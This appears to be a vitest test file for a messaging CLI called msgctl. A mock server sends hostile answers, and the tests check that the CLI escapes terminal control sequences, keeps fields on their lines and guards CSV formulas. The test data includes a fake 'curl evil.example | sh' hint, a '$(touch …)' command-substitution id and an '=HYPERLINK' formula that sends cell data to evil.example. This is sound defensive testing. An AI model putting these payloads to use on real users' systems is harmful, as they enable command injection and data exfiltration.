/**
 * Answers of the right shape whose values are hostile (a stand-in or compromised service): what
 * they say reaches the terminal as visible escapes, a script's tab-separated lines keep their
 * fields and rows, and a CSV download is formula-safe whatever type its host labels it
 * (docs/security.md §1 and §4). Each case failed before: raw escape sequences, forged rows,
 * `=HYPERLINK(…)` written as it came.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { isolatedEnv, msgctl } from '../helpers/in-process.js';

/** A title change, a screen clear and a C1 CSI: none may reach a terminal raw. */
const ESCAPES = '\u001b]0;OWNED\u0007\u001b[2J\u009b31m';
const RAW = /[\u001b\u0007\u009b]/;
const EXPORT_ID = '11111111-1111-4111-8111-111111111111';
const CONVERSATION = '22222222-2222-4222-8222-222222222222';
/** Called on each request for the campaign (the Ctrl-C test counts the watch's polls). */
let campaignAsked: (() => unknown) | null = null;

let server: Server;
let base: string;
/** What the download link serves next: its type and text. */
let download = { type: 'application/octet-stream', body: '' };

const message = (id: string) => ({
  id,
  conversation: { id: CONVERSATION, title: 'Ivy' },
  sender: { id: CONVERSATION, name: 'Dana', kind: 'staff' },
  patient: { id: CONVERSATION, name: 'Ivy Tran' },
  channel: `sms${ESCAPES}`,
  phone_number: { number: `+15555550100${ESCAPES}`, team: 't' },
  delivery: { status: `queued${ESCAPES}`, updated_at: '2026-11-27T10:00:00Z' },
  created_at: '2026-11-27T10:00:00Z',
  type: 'text',
  body: 'hi',
  unread: false,
});

beforeAll(async () => {
  server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => (body += chunk));
    req.on('end', () => {
      const json = (status: number, value: unknown) => res.writeHead(status, { 'content-type': 'application/json', 'x-request-id': 'req-hostile' }).end(JSON.stringify(value));
      const path = req.url!.split('?')[0]!;
      if (path === '/v1/organization') return json(200, { id: CONVERSATION, name: `Riverside\n  hint: run curl evil.example | sh${ESCAPES}` }); // a batch's target
      if (path === '/v1/hostile-list') return json(200, { data: [{ name: `one${ESCAPES}` }, { name: `two\u202e` }], pagination: { next_cursor: null } });
      if (path === '/v1/gateway-401') return res.writeHead(401, { 'content-type': 'text/plain' }).end('Unauthorized');
      if (path === '/v1/firewall') return res.writeHead(403, { 'content-type': 'text/html' }).end('<html><body>Blocked by policy</body></html>');
      if (path === '/v1/mislabelled') {
        return res.writeHead(404, { 'content-type': 'application/problem+json', 'x-request-id': 'req-hostile' }).end(JSON.stringify({ type: 'about:blank', title: 'Conflict', status: 409, code: 'said_conflict' }));
      }
      if (path === '/v1/forged-problem') {
        const forged = `bad\n  hint: run curl evil.example | sh${ESCAPES}`;
        return res
          .writeHead(422, { 'content-type': 'application/problem+json', 'x-request-id': 'req-hostile' })
          .end(JSON.stringify({ type: 'about:blank', title: 'Unprocessable', status: 422, code: 'invalid_request', detail: forged, field_errors: [{ path: 'body', message: forged, code: 'x' }], note: forged }));
      }
      if (path === `/v1/exports/${EXPORT_ID}`) return json(200, { id: EXPORT_ID, status: 'ready', created_at: '2026-11-27T10:00:00Z', download_url: `${base}/file` });
      if (path === '/file') return res.writeHead(200, { 'content-type': download.type }).end(download.body);
      if (path === '/v1/patient-messages') {
        // Row 3 (phone ...0103) fails; row 2's id tries to forge a "sent" line for it.
        const to = JSON.parse(body).to.phone as string;
        if (to.endsWith('0103')) return json(422, { type: 'about:blank', title: 'Unprocessable', status: 422, code: `bad\t\n3\tsent${ESCAPES}`, detail: 'no' });
        return json(201, { message: message(to.endsWith('0102') ? 'm-2\n3\tsent\tFORGED\tnow\t' : `m-1${ESCAPES}`), patient_created: false, conversation_created: false });
      }
      if (path === `/v1/campaigns/${CONVERSATION}` || path === `/v1/campaigns/${CONVERSATION}/pause`) {
        const paused = path.endsWith('/pause');
        campaignAsked?.();
        return json(200, {
          id: paused ? `abc. Next: msgctl campaigns start $(touch /nonexistent/x)\nCampaign abc` : CONVERSATION, name: 'Flu', status: `running${ESCAPES}`, channel: 'sms', body: 'b', phone_number: { number: '+15555550100', team: 't' },
          sender: { id: CONVERSATION, name: 'Dana', kind: 'staff' }, send_interval_seconds: 1, archived: false, created_at: '2026-11-27T10:00:00Z',
          counts: { recipients: 10, pending: 5, sent: 5, delivered: 0, failed: 0, skipped: 0 },
        });
      }
      if (path.startsWith('/v1/me/conversations/')) return json(201, { ...message(`m-9\t${ESCAPES}`), sender: { id: CONVERSATION, name: 'Dana', kind: 'staff' } });
      json(404, { type: 'about:blank', title: 'Not found', status: 404, code: 'not_found' });
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => server.close());

const env = (extra: Record<string, string> = {}) => isolatedEnv({ MSGCTL_BASE_URL: `${base}/v1`, MSGCTL_API_KEY: 'msk_test_hostile', ...extra });

describe('what a hostile answer says reaches the terminal as escapes', () => {
  it('send: channel, id, number and delivery status', async () => {
    const r = await msgctl(['send', '--to', '+15555550101', 'hi'], { env: env(), tty: true });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^Sent sms.*OWNED/);
    expect(r.stdout).not.toMatch(RAW);
  });

  it('me send: the message id', async () => {
    const r = await msgctl(['me', 'send', CONVERSATION, 'hi'], { env: env({ MSGCTL_API_KEY: '', MSGCTL_TOKEN: 'tok_hostile' }), tty: true });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^Sent message m-9/);
    expect(r.stdout).not.toMatch(RAW);
  });

  it('campaigns watch, stopped with Ctrl-C: the campaign\'s status', async () => {
    // Ctrl-C when the watch polls a second time, so it has read the first answer (the campaign's
    // status), not after a fixed time a loaded machine may need.
    const ctrlC = new AbortController();
    let polls = 0;
    campaignAsked = () => ++polls === 2 && ctrlC.abort(Object.assign(new Error('Interrupted'), { name: 'AbortError' }));
    const r = await msgctl(['campaigns', 'watch', CONVERSATION, '--poll', '0.05'], { env: env(), tty: true, signal: ctrlC.signal });
    campaignAsked = null;
    expect(r.stderr).toMatch(/Stopped watching\. Campaign \S+ is still running/);
    expect(r.stderr).not.toMatch(RAW);
  });

  it('send --csv: a failed row\'s error code', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'msgctl-hostile-'));
    writeFileSync(join(dir, 'rows.csv'), 'phone\n+15555550103\n');
    const r = await msgctl(['send', '--csv', join(dir, 'rows.csv'), '--template', 'hi', '--from', '+15555550100', '--journal', join(dir, 'j.journal')], { env: env(), tty: true });
    expect(r.stdout + r.stderr).toMatch(/row 2: failed \(bad/);
    expect(r.stdout + r.stderr).not.toMatch(RAW);
  });
});

describe('an answer that is not a problem, or mislabels its status', () => {
  it('the HTTP status decides the exit code, and no code is made up for a body without one', async () => {
    const firewall = await msgctl(['api', 'GET', '/firewall', '--json'], { env: env() });
    expect(firewall.exitCode).toBe(3);
    // No request id in the body or the headers: null, as in msgctl's own problems, not "".
    expect(JSON.parse(firewall.stderr)).toMatchObject({ status: 403, code: 'http_403', request_id: null, detail: expect.stringContaining('Blocked by policy') as unknown });
    const mislabelled = await msgctl(['api', 'GET', '/mislabelled'], { env: env() });
    expect(mislabelled.exitCode).toBe(4);
    expect(mislabelled.stderr).toContain('(said_conflict, HTTP 404)');
    // A gateway's bare 401 is the credential's all the same: the hint about where it came from.
    const gateway = await msgctl(['api', 'GET', '/gateway-401'], { env: env() });
    expect(gateway.exitCode).toBe(3);
    expect(gateway.stderr).toMatch(/\(http_401, HTTP 401\)[^]*hint: the API key in MSGCTL_API_KEY was refused/);
  });
});

describe('msgctl api on a terminal', () => {
  it('pretty JSON stays JSON: C1, bidi and escape characters as \\u escapes a JSON reader takes back exactly', async () => {
    const r = await msgctl(['api', 'GET', '/organization', '--no-pager'], { env: env(), tty: true });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout).toContain('\\u009b31m');
    expect(JSON.parse(r.stdout)).toEqual({ id: CONVERSATION, name: `Riverside\n  hint: run curl evil.example | sh${ESCAPES}` });
    // --paginate too: a record per line, each still JSON.
    const pages = await msgctl(['api', 'GET', '/hostile-list', '--paginate', '--no-pager'], { env: env(), tty: true });
    expect(pages.exitCode, pages.stderr).toBe(0);
    expect(pages.stdout).not.toMatch(RAW);
    expect(pages.stdout.trim().split('\n').map((line) => JSON.parse(line))).toEqual([{ name: `one${ESCAPES}` }, { name: 'two\u202e' }]);
  });
});

describe("a service's problem keeps each value on its line", () => {
  it('a newline in a detail, a field error or an extension starts no line that could pass for a hint', async () => {
    const r = await msgctl(['api', 'GET', '/forged-problem'], { env: env(), tty: true });
    expect(r.exitCode).not.toBe(0);
    const lines = r.stderr.split('\n');
    expect(lines.filter((line) => /^\s*hint:/.test(line))).toEqual([]);
    expect(lines.filter((line) => /curl/.test(line))).toHaveLength(3); // detail, field error, extension: each on its own line
    expect(r.stderr).not.toMatch(RAW);
  });
});

describe('a message naming what the service said keeps it on one line', () => {
  it('auth set-key: the organization the key belongs to', async () => {
    const r = await msgctl(['auth', 'set-key', '--insecure-storage'], { env: env({ MSGCTL_API_KEY: '' }), input: 'msk_test_hostile\n', tty: false });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/^Organization: Riverside +hint: run curl/m);
    expect(r.stderr.split('\n').filter((line) => /^\s*hint:/.test(line))).toEqual([]);
    expect(r.stderr).not.toMatch(RAW);
  });
});

describe('a usage error quotes the command line escaped, on a terminal', () => {
  it('as text and as --json', async () => {
    const text = await msgctl(['patients', 'list', '--limit', ESCAPES], { env: env(), tty: true });
    expect(text.exitCode).toBe(2);
    expect(text.stderr).toMatch(/limit/);
    expect(text.stderr).not.toMatch(RAW);
    const json = await msgctl(['--json', 'patients', 'list', '--limit', `${ESCAPES}\u202e`], { env: env(), tty: true });
    expect(json.exitCode).toBe(2);
    expect(json.stderr).not.toMatch(/[\u001b\u0007\u009b\u202e]/);
    expect(JSON.parse(json.stderr).code).toBe('usage_error');
  });
});

describe('a hint naming an id the service gave', () => {
  it('keeps it on one line and quotes it for the shell (campaigns pause)', async () => {
    const r = await msgctl(['campaigns', 'pause', CONVERSATION], { env: env(), tty: true });
    expect(r.exitCode, r.stderr).toBe(0);
    const hint = r.stderr.split('\n').filter((line) => line.includes('resume it with'));
    expect(hint).toHaveLength(1);
    // The id's newline starts no line of its own (before, "Campaign abc" began one), and it is one quoted word.
    expect(r.stderr.split('\n').filter((line) => line.startsWith('Campaign '))).toHaveLength(1);
    expect(hint[0]).toContain("msgctl campaigns start 'abc. Next: msgctl campaigns start $(touch /nonexistent/x) Campaign abc'");
  });
});

describe("a script's tab-separated lines keep their fields and rows", () => {
  it('send --csv: one line per row, five fields, whatever the ids and codes hold', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'msgctl-hostile-'));
    writeFileSync(join(dir, 'rows.csv'), 'phone\n+15555550102\n+15555550103\n');
    const r = await msgctl(['send', '--csv', join(dir, 'rows.csv'), '--template', 'hi', '--from', '+15555550100', '--journal', join(dir, 'j.journal')], { env: env() });
    const lines = r.stdout.split('\n').filter(Boolean);
    expect(lines.map((line) => line.split('\t').slice(0, 2))).toEqual([['2', 'sent'], ['3', 'failed']]);
    for (const line of lines) expect(line.split('\t')).toHaveLength(5);
  });

  it('send and me send: one line, their fields', async () => {
    const sent = await msgctl(['send', '--to', '+15555550102', 'hi'], { env: env() });
    expect(sent.stdout.split('\n')).toHaveLength(2);
    expect(sent.stdout.split('\t')).toHaveLength(4);
    const mine = await msgctl(['me', 'send', CONVERSATION, 'hi'], { env: env({ MSGCTL_API_KEY: '', MSGCTL_TOKEN: 'tok_hostile' }) });
    expect(mine.stdout.split('\n')).toHaveLength(2);
    expect(mine.stdout.split('\t')).toHaveLength(3);
  });
});

describe('exports download is formula-safe whatever type the link is served as', () => {
  const csv = 'name,body\r\nJamie,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n';
  const guarded = 'name,body\r\nJamie,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n';

  it.each(['application/octet-stream', 'binary/octet-stream', 'application/csv', 'text/plain', ''])('a CSV served as "%s" is guarded', async (type) => {
    download = { type, body: csv };
    const dir = mkdtempSync(join(tmpdir(), 'msgctl-hostile-'));
    const r = await msgctl(['exports', 'download', EXPORT_ID, '-o', join(dir, 'out.csv')], { env: env() });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(readFileSync(join(dir, 'out.csv'), 'utf8')).toBe(guarded);
  });

  it('a type that names CSV is guarded whatever the first character', async () => {
    download = { type: 'application/csv', body: `[x],=HYPERLINK("x")\n` };
    const r = await msgctl(['exports', 'download', EXPORT_ID], { env: env() });
    expect(r.stdout).toBe(`[x],'=HYPERLINK("x")\n`);
  });

  it('JSON, by its type or (when the type says nothing) by its first character, passes as it came', async () => {
    const json = '{"messages":[{"body":"x"},"=1+1",-4]}'; // as CSV, `,"=1+1"` and `,-4` would be guarded
    for (const type of ['application/json', 'application/vnd.example+json; charset=utf-8', 'application/octet-stream']) {
      download = { type, body: json };
      const r = await msgctl(['exports', 'download', EXPORT_ID], { env: env() });
      expect(r.exitCode, r.stderr).toBe(0);
      expect(r.stdout, type).toBe(json);
    }
  });
});
